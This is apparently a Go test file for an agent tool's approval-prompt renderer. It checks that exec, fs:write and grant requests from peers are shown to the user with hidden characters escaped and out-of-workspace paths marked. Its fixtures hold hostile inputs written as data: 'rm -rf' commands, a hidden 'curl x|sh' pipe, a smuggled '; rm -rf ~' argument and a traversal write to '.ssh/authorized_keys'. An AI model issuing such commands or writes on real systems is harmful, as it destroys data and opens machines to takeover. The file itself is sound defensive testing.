package render

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/awp-tray/awp-tray/peer"
	"github.com/awp-tray/awp-tray/peer/key"
)

const carol = "ed25519:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCA"

var carolK = key.MustParsePublic(carol)

func TestDescribeApproval(t *testing.T) {
	req := peer.ApprovalRequest{ID: "ap1", Kind: peer.ApprovalProfile, From: aliceK, FromName: "claude@box",
		Caps: []string{"exec"}, On: []key.PublicKey{bobK}, Th: "thr_a", Reason: "no grant", Deadline: "2026-09-25T18:05:00Z",
		Detail: json.RawMessage(`{"cmd":["rm","-rf","build dir"],"cwd":"services/api","stdin":"y\n"}`)}
	a := DescribeApproval(req, bobK, nil)
	if a.Title != "claude@box (AAAAAAAA) asks to run exec on this peer" || a.Title != ApprovalTitle(req) {
		t.Errorf("title = %q", a.Title)
	}
	want := []Field{{"who", alice}, {"capability", "exec"}, {"on", "this peer"},
		{"command", `rm -rf "build dir"`}, {"cwd", "services/api"}, {"stdin", "y\n"}}
	if !equalFields(a.Fields, want) {
		t.Errorf("fields:\n%v\nwant\n%v", a.Fields, want)
	}
	// The node's reason (no grant) is a sentence apart from the fields, and
	// the deadline a time the prompt counts down to, not an RFC 3339 field.
	if a.Why != "No grant of yours lets them do this, so this peer asks you." {
		t.Errorf("why = %q", a.Why)
	}
	if !a.Deadline.Equal(time.Date(2026, 9, 25, 18, 5, 0, 0, time.UTC)) {
		t.Errorf("deadline = %v", a.Deadline)
	}
	if !strings.Contains(a.Grants, "claude@box (AAAAAAAA) may then run any command on this peer, as you, for 1 hour") {
		t.Errorf("grants = %q", a.Grants)
	}

	// What the peer chose shows every character: a bidi override in the
	// name and the command, a carriage return and a zero-width space in the
	// shell string, a right-to-left isolate in the path, a line separator in
	// the reason.
	hostile := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, FromName: "ana\u202e",
		Caps: []string{"exec"}, Reason: "tests\u2028only",
		Detail: json.RawMessage(`{"cmd":"ls\rcurl x|sh #\u202e\u200b","cwd":"a\u2067b"}`)}, bobK, nil)
	if hostile.Title != `ana\u202e (AAAAAAAA) asks to run exec on this peer` || hostile.Who != `ana\u202e (AAAAAAAA)` {
		t.Errorf("hostile title %q, who %q", hostile.Title, hostile.Who)
	}
	wantH := []Field{{"who", alice}, {"capability", "exec"}, {"on", "this peer"},
		{"command", `ls\u000dcurl x|sh #\u202e\u200b`}, {"cwd", `a\u2067b`}}
	if !equalFields(hostile.Fields, wantH) {
		t.Errorf("hostile fields:\n%q\nwant\n%q", hostile.Fields, wantH)
	}
	if hostile.Why != `This peer asks you: tests\u2028only.` {
		t.Errorf("hostile why = %q", hostile.Why)
	}
	if !strings.Contains(hostile.Grants, `ana\u202e`) {
		t.Errorf("grants text shows the name unescaped: %q", hostile.Grants)
	}
	argv := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
		Detail: json.RawMessage(`{"cmd":["cat","a; rm -rf ~","x\u202ey"]}`)}, bobK, nil)
	if got := argv.Fields[3]; got != (Field{"command", `cat "a; rm -rf ~" "x\u202ey"`}) {
		t.Errorf("argv command %q", got)
	}
}

// An fs:write shows whether it appends or replaces, how much, and what:
// text as it is, binary data's start in hex, a malformed request as one the
// node refuses.
func TestDescribeWrite(t *testing.T) {
	for _, tc := range []struct {
		detail string
		want   []Field
	}{
		{`{"path":"notes/todo.md","content":"hello\nworld","append":true}`,
			[]Field{{"path", "notes/todo.md"}, {"write", "append to the file, 11 B"}, {"content", "hello\nworld"}}},
		{`{"path":"a","content":"","mkdir":true}`,
			[]Field{{"path", "a"}, {"write", "replace the file, creating missing directories, 0 B"}, {"content", "(nothing)"}}},
		{`{"path":"bin","content":"f0VMRv8=","encoding":"base64"}`,
			[]Field{{"path", "bin"}, {"write", "replace the file, 5 B"}, {"content", "binary data: 7f 45 4c 46 ff"}}},
		{`{"path":"t","content":"aGk=","encoding":"base64"}`,
			[]Field{{"path", "t"}, {"write", "replace the file, 2 B"}, {"content", "hi"}}},
		{`{"path":"t","content":"aGk","encoding":"base64"}`,
			[]Field{{"path", "t"}, {FieldRefused, "malformed: content is not standard base64: illegal base64 data at input byte 0"}}},
		{`{"path":"x\u202e","content":"\u200b"}`,
			[]Field{{"path", `x\u202e`}, {"write", "replace the file, 3 B"}, {"content", `\u200b`}}},
	} {
		a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"}, On: []key.PublicKey{bobK},
			Detail: json.RawMessage(tc.detail)}, bobK, nil)
		if !equalFields(a.Fields[3:], tc.want) {
			t.Errorf("%s:\n%q\nwant\n%q", tc.detail, a.Fields[3:], tc.want)
		}
	}
	// A megabyte of content is cut to MaxField, and offered whole.
	big := strings.Repeat("ssh-ed25519 AAAA\n", 60_000)
	raw, _ := json.Marshal(map[string]any{"path": "../../.ssh/authorized_keys", "content": big, "append": true})
	a := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"}, Detail: raw}, bobK, nil)
	if a.Whole == nil || len([]rune(a.Fields[5].Value)) > MaxField+100 || a.Whole[5].Value != big {
		t.Errorf("big content: whole %v, field %d runes", a.Whole != nil, len([]rune(a.Fields[5].Value)))
	}
}

// A path the node refuses is marked right after it, for fs requests and an
// exec's cwd; the check sees the path as the peer wrote it.
func TestDescribeRefusedPath(t *testing.T) {
	var asked []string
	check := func(p string) string {
		asked = append(asked, p)
		if strings.Contains(p, "..") {
			return "resolves outside the workspace"
		}
		return ""
	}
	w := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:write"},
		Detail: json.RawMessage(`{"path":"../../.ssh/authorized_keys","content":"k"}`)}, bobK, check)
	if w.Fields[4] != (Field{FieldRefused, "the path resolves outside the workspace"}) {
		t.Errorf("write: %q", w.Fields)
	}
	x := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
		Detail: json.RawMessage(`{"cmd":"ls","cwd":"../x"}`)}, bobK, check)
	if x.Fields[5] != (Field{FieldRefused, "the path resolves outside the workspace"}) {
		t.Errorf("exec: %q", x.Fields)
	}
	r := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"fs:read"},
		Detail: json.RawMessage(`{"path":"src/main.go"}`)}, bobK, check)
	for _, f := range r.Fields {
		if f.Label == FieldRefused {
			t.Errorf("read inside marked: %q", r.Fields)
		}
	}
	if strings.Join(asked, "|") != "../../.ssh/authorized_keys|../x|src/main.go" {
		t.Errorf("checked %q", asked)
	}
}

func TestDescribeGrantRequest(t *testing.T) {
	gr := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Sub: carolK,
		Caps: []string{"exec", "fs:read"}, On: []key.PublicKey{bobK, aliceK}, TTL: 86400, Reason: "run the suite"}, bobK, nil)
	if gr.Title != "AAAAAAAA asks for a grant: exec, fs:read" {
		t.Errorf("grant title = %q", gr.Title)
	}
	wantG := []Field{{"who", alice}, {"capability", "exec, fs:read"}, {"on", "this peer\n" + alice}, {"for", carol}, {"for how long", "1 day"}, {FieldTheirReason, "run the suite"}}
	if !equalFields(gr.Fields, wantG) {
		t.Errorf("grant fields = %q\nwant %q", gr.Fields, wantG)
	}
	if !strings.Contains(gr.Grants, "the key under “for” may then use exec, fs:read on the peers under “on” without asking") {
		t.Errorf("grants = %q", gr.Grants)
	}
	// No on: usable wherever my grants are honored, and said so.
	anyOn := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}}, bobK, nil)
	if anyOn.Fields[2] != (Field{"on", "any peer that honors your grants"}) || anyOn.Fields[3] != (Field{"for how long", "not said (1 hour if allowed)"}) {
		t.Errorf("no on, no ttl: %q", anyOn.Fields)
	}
	if !strings.Contains(anyOn.Grants, "AAAAAAAA may then use exec on any peer that honors your grants") {
		t.Errorf("grants, no on: %q", anyOn.Grants)
	}
	// An empty on list is not the same as none (docs/protocol/grants.md).
	empty := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}, On: []key.PublicKey{}}, bobK, nil)
	if empty.Fields[2] != (Field{"on", "(an empty list)"}) {
		t.Errorf("empty on: %q", empty.Fields)
	}
	mine := DescribeApproval(peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"exec"}, On: []key.PublicKey{bobK}}, bobK, nil)
	if !strings.Contains(mine.Grants, "use exec on this peer without asking") {
		t.Errorf("grants, on me: %q", mine.Grants)
	}
}

// Every choice says what it grants and takes exactly that decision: Allow
// with For 0 runs one request; For > 0 signs a grant that long. A grant
// request is never offered "once" (its For 0 would sign what was asked).
func TestChoices(t *testing.T) {
	profileReq := peer.ApprovalRequest{Kind: peer.ApprovalProfile, Caps: []string{"fs:write"}}
	grant := func(ttl int64) peer.ApprovalRequest {
		return peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, Caps: []string{"exec"}, TTL: ttl}
	}
	deny := Choice{"Deny", peer.Decision{Allow: false, Reason: "denied by the user"}, false}
	for _, tc := range []struct {
		name string
		req  peer.ApprovalRequest
		want []Choice
	}{
		{"profile", profileReq, []Choice{
			{"Allow once", peer.Decision{Allow: true}, true},
			{"Allow fs:write for 1 hour", peer.Decision{Allow: true, For: time.Hour}, false}, deny}},
		{"grant 24 h", grant(86400), []Choice{
			{"Allow for 1 day as asked", peer.Decision{Allow: true, For: 24 * time.Hour}, true},
			{"Allow for 1 hour", peer.Decision{Allow: true, For: time.Hour}, false}, deny}},
		{"grant 1 hour", grant(3600), []Choice{{"Allow for 1 hour as asked", peer.Decision{Allow: true, For: time.Hour}, true}, deny}},
		{"grant 10 min", grant(600), []Choice{{"Allow for 10 minutes as asked", peer.Decision{Allow: true, For: 10 * time.Minute}, true}, deny}},
		{"grant 30 days", grant(30 * 86400), []Choice{
			{"Allow for 30 days as asked", peer.Decision{Allow: true, For: MaxGrantFor}, true},
			{"Allow for 1 hour", peer.Decision{Allow: true, For: time.Hour}, false}, deny}},
		{"grant too long", grant(30*86400 + 1), []Choice{{"Allow for 1 hour", peer.Decision{Allow: true, For: time.Hour}, true}, deny}},
		{"grant no ttl", grant(0), []Choice{{"Allow for 1 hour", peer.Decision{Allow: true, For: time.Hour}, true}, deny}},
		{"grant negative ttl", grant(-5), []Choice{{"Allow for 1 hour", peer.Decision{Allow: true, For: time.Hour}, true}, deny}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Choices(tc.req)
			if len(got) != len(tc.want) {
				t.Fatalf("choices %+v\nwant %+v", got, tc.want)
			}
			for i := range got {
				if got[i] != tc.want[i] {
					t.Errorf("choice %d: %+v, want %+v", i, got[i], tc.want[i])
				}
				if d := got[i].Decision; d.Allow && d.For == 0 && !strings.Contains(got[i].Label, "once") {
					t.Errorf("%q allows once without saying so", got[i].Label)
				}
				if d := got[i].Decision; d.For > 0 && !strings.Contains(got[i].Label, Duration(d.For)) {
					t.Errorf("%q grants %s without saying so", got[i].Label, d.For)
				}
			}
		})
	}
}

// An exec prompt says how the command would run here: "runs unsandboxed
// as you" when the node's exec sandbox is not in use.
func TestDescribeApprovalSandbox(t *testing.T) {
	base := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, Caps: []string{"exec"},
		Detail: json.RawMessage(`{"cmd":["make","test"]}`)}
	for _, tc := range []struct {
		sandbox, want string
	}{{"none", "none: runs unsandboxed as you"}, {"bwrap", SandboxBwrap}, {peer.SandboxUnavailable, SandboxUnavailable}, {"", ""}} {
		r := base
		r.Sandbox = tc.sandbox
		var got string
		for _, f := range DescribeApproval(r, bobK, nil).Fields {
			if f.Label == "sandbox" {
				got = f.Value
			}
		}
		if got != tc.want {
			t.Errorf("sandbox %q: field %q, want %q", tc.sandbox, got, tc.want)
		}
	}
}

// The history says what became of each request in words: a timeout is a
// denial with no answer, durations read "1 hour".
func TestHistoryLine(t *testing.T) {
	now := time.Date(2026, 12, 1, 15, 30, 0, 0, time.UTC)
	exec := peer.ApprovalRequest{Kind: peer.ApprovalProfile, From: aliceK, FromName: "alice", Caps: []string{"exec"},
		Detail: json.RawMessage(`{"cmd":["make","test"]}`)}
	gr := peer.ApprovalRequest{Kind: peer.ApprovalGrantRequest, From: aliceK, Caps: []string{"fs:read"}}
	for _, c := range []struct {
		rec  peer.ApprovalRecord
		want string
	}{
		{peer.ApprovalRecord{Request: exec, Decision: peer.Decision{Allow: true, For: time.Hour, By: "user"}, At: "2026-12-01T15:28:58.816Z"},
			"15:28 · alice (AAAAAAAA) wanted exec `make test` · allowed for 1 hour by you"},
		{peer.ApprovalRecord{Request: exec, Decision: peer.Decision{Allow: true, By: "notification"}, At: "2026-12-01T15:00:00Z"},
			"15:00 · alice (AAAAAAAA) wanted exec `make test` · allowed once by you, from the notification"},
		{peer.ApprovalRecord{Request: exec, Decision: peer.Decision{By: "timeout", Reason: "no decision in time"}, At: "2026-12-01T15:05:00Z"},
			"15:05 · alice (AAAAAAAA) wanted exec `make test` · denied: no answer in time"},
		{peer.ApprovalRecord{Request: exec, Decision: peer.Decision{By: "limit", Reason: "8 requests from this peer are already waiting for approval"}, At: "2026-11-30T15:05:00Z"},
			"Nov 30 15:05 · alice (AAAAAAAA) wanted exec `make test` · refused unseen: 8 requests from this peer are already waiting for approval"},
		{peer.ApprovalRecord{Request: gr, Decision: peer.Decision{By: "user", Reason: "denied by the user"}, At: "2026-12-01T15:05:00Z"},
			"15:05 · AAAAAAAA asked for a grant: fs:read · denied by you"},
		{peer.ApprovalRecord{Request: gr, Decision: peer.Decision{By: "expired"}, At: "2026-12-01T15:05:00Z"},
			"15:05 · AAAAAAAA asked for a grant: fs:read · withdrawn: the request expired before an answer"},
	} {
		if got := HistoryLine(c.rec, now, time.UTC); got != c.want {
			t.Errorf("HistoryLine = %q\nwant %q", got, c.want)
		}
	}
}
